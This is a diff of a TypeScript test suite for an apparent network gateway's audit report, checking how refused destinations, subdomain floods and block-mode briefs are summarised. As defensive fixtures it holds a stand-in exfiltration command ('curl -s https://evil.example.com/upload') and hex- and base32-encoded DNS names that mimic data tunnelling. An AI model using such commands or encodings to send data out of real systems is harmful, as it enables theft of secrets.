@@ -1,4 +1,5 @@
 import * as fc from 'fast-check'
+import { readFileSync } from 'node:fs'
 import { stripVTControlCharacters } from 'node:util'
 import t from 'tap'
 import type { FlowEvent } from '../../../gateway/record/event.ts'
@@ -7,6 +8,7 @@ import { redactEvent } from '../../../gateway/record/redact.ts'
 import { layOut } from '../../../gateway/record/report/columns.ts'
 import { renderReport } from '../../../gateway/record/report/render.ts'
 import { terminalFor } from '../../../gateway/record/report/terminal.ts'
+import { renderBrief } from '../../../gateway/record/report/text.ts'
 import { bytes, duration, yamlItem } from '../../../gateway/record/report/words.ts'
 import type { LogState, Summary } from '../../../gateway/record/summary-shape.ts'
 import { parse } from 'yaml'
@@ -23,6 +25,21 @@ function summarise(events: readonly FlowEvent[], log: LogState = sealed): Summar
 }
 
 const sample = summarise(sampleJob())
+
+const asker = { pid: 1, exe: '/usr/bin/node', command: 'node ask.js', uid: 0, parents: [] }
+
+function refusedName(host: string, facts: Partial<FlowEvent> = {}): FlowEvent {
+  return {
+    layer: 'dns',
+    startedAt: 0,
+    host,
+    qtype: 'A',
+    rcode: 'NXDOMAIN',
+    verdict: 'deny',
+    reason: 'no-rule',
+    ...facts,
+  }
+}
 
 function refusedRow(host: string): object | undefined {
   return sample.refused.find(refused => refused.host === host)
@@ -49,7 +66,7 @@ await t.test('summary(): tells what was refused and why, with the line that woul
   t.match(refusedRow('evil.example.com'), { reason: 'no-rule', lookups: 1, allow: ['evil.example.com'] })
   t.match(refusedRow('198.51.100.9'), {
     reason: 'address-literal',
-    allow: ['tcp://198.51.100.9:8443'],
+    allow: [],
     processes: ['curl -s https://evil.example.com/upload ← dash ← node'],
   })
 })
@@ -73,6 +90,66 @@ await t.test('summary(): a flood of names under one domain is one row without a 
   t.match(rows, [{ host: '**.tunnel.example', names: 60, lookups: 60, allow: [] }])
   t.equal(rows.length, 1)
 })
+
+await t.test('summary(): names below one that look like data are one row', async t => {
+  const asked = [
+    '6162636465666768696a.x.example.com',
+    '3031323334353637.x.example.com',
+    'mzxw6ytboi5dinzt2v4q.x.example.com',
+  ]
+  const { refused } = summarise(asked.map(host => refusedName(host, { process: asker })))
+  t.match(refused, [{ host: '**.x.example.com', names: 3, lookups: 3, allow: [], processes: ['node ask.js'] }])
+  t.equal(refused.length, 1)
+})
+
+await t.test('summary(): two of them, or names of words, are rows of their own', async t => {
+  const words = ['productionresultssa10', 'productionresultssa11', 'productionresultssa12']
+  const hosts = ['6162636465666768696a', '3031323334353637', ...words].map(label => `${label}.x.example.com`)
+  t.equal(summarise(hosts.map(host => refusedName(host))).refused.length, hosts.length)
+})
+
+await t.test('summary(): nobody is led to open what a thief would use', async t => {
+  const [exfiltration] = parse(
+    readFileSync(new URL('../../../gateway/policy/presets/known-exfiltration.yaml', import.meta.url), 'utf8'),
+  ).forbid
+  for (const host of [exfiltration.to, '6162636465666768696a.example.com', 'vm'])
+    t.same(summarise([refusedName(host)]).suggestions, [], host)
+  t.same(summarise([refusedName('shop.example.com')]).suggestions, ['shop.example.com'])
+})
+
+await t.test(
+  'renderBrief(): tells each destination once, and no more of an audit than what block mode would refuse',
+  async t => {
+    const flow = { host: 'shop.example.com', port: 443, startedAt: 0, verdict: 'observe', reason: 'no-rule' } as const
+    const audit = summarise([
+      { ...flow, layer: 'dns' },
+      { ...flow, layer: 'http', method: 'GET', path: '/', inspected: true, bytesSent: 100 },
+    ])
+    const brief = renderBrief(audit, dumb)
+    t.equal(brief.split('shop.example.com').length, 2, brief)
+    t.match(brief, '1 host reached, 1 destination that block mode would refuse')
+    t.match(brief, 'Would be refused in block mode')
+    t.notMatch(brief, /^Reached|^To allow/m)
+  },
+)
+
+await t.test('renderBrief(): of many rows, counts the rest', async t => {
+  const many = summarise(Array.from({ length: 20 }, (_, at) => refusedName(`host-${at}.example${at}.test`)))
+  t.match(renderBrief(many, dumb), /Refused\n(?:.+\n)+ {2}and 12 more/)
+})
+
+for (const width of [60, 80]) {
+  await t.test(`renderBrief(): fits a terminal of ${width} columns`, async t => {
+    const audit = sampleJob().map(event =>
+      event.verdict === undefined ? event : { ...event, verdict: 'observe' as const },
+    )
+    // The hash of the log is longer than a narrow terminal, and so are policy lines, which nobody may cut.
+    const wide = (text: string) =>
+      text.split('\n').filter(line => line.length > width && !/^Its head|^The log|^To allow|^ {2}- /.test(line))
+    for (const events of [sampleJob(), audit])
+      t.same(wide(renderBrief(summarise(events), terminalFor({ columns: width }, {}))), [])
+  })
+}
 
 await t.test('summary(): what was carried unread is told', async t => {
   t.match(sample.unseen, [{ host: 'git.example.org', port: 22, protocol: 'tcp', connections: 1, bytesSent: 9_000 }])
